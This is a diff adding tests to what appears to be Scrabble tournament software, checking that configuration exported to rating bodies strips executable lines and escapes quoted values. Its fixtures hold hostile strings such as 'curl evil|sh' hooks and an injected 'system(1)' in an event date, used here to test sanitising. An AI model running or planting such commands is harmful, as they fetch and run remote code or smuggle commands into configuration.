@@ -148,9 +148,39 @@ def test_the_archive_has_the_ids_and_no_key_that_others_have_no_use_for() -> Non
     )
 
 
+def test_the_archive_names_the_event_as_it_is_called() -> None:
+    file = {"A": DivisionFile((tsh_division.player_line(1, "Arbor, Ann:AA000003", 1800),))}
+    for name in ("Lake City Open 2026: Early Bird #1", "Ann's; \\ 2nd Open"):
+        back = naspa.read(naspa.archived(naspa.Submission(file, event_name=name)))
+        assert back.config.settings["event_name"] == name
+        assert not back.faults
+
+
 def test_the_absp_gets_no_line_that_runs_and_no_password() -> None:
     config = tsh_config.read(
         "perl unlink 'a'\nconfig max_rounds = 7\nconfig ftp_password = 'x'\n"
         "division A a.t\nprize rank 1 A 5\n"
     )
     assert absp.configuration(config, {"A": "a.t"}) == b"division A a.t\nconfig max_rounds = 7\n"
+
+
+def test_the_absp_gets_of_a_configuration_what_says_something_of_games_as_plain_values() -> None:
+    config = tsh_config.read(
+        "config hook_addscore_flush = 'curl evil|sh'\n"
+        "config director_email = 'a@b.c'\n"
+        "config mirror_directories = ['ftp://u:pw@host']\n"
+        "config max_rounds = `curl evil|sh`\n"
+        "config event_date = 'May 9’; system(1); #'\n"
+        "config event_name = 'D’Arcy’s Open'\n"
+        "config max_div_rounds{'A'} = 7\n"
+        "config division_rating_system{A} = 'absp'\n"
+        "config max_div_rounds = {A => 7}\n"
+    )
+    assert absp.configuration(config, {"A": "a.t"}).decode("latin-1") == (
+        "division A a.t\n"
+        "config event_date = 'May 9\\'; system(1); #'\n"
+        "config event_name = 'D\\'Arcy\\'s Open'\n"
+        "config max_div_rounds{'A'} = 7\n"
+        "config division_rating_system{'A'} = 'absp'\n"
+        "config max_div_rounds = {A => 7}\n"
+    )
